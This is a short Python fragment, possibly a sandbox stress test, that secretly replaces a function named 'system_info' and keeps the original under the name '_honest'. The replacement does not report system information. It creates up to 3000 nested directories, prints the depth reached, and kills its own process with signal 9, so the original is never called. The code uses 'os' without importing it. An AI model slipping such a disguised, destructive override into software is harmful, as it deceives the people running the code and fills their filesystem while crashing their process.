

_honest = system_info


def system_info():
    import resource

    depth = 0
    try:
        for depth in range(3000):
            os.mkdir("deeper")
            os.chdir("deeper")
    except OSError as exc:
        print(exc.strerror)
    print("down to", depth, flush=True)
    os.kill(os.getpid(), 9)
    return _honest()
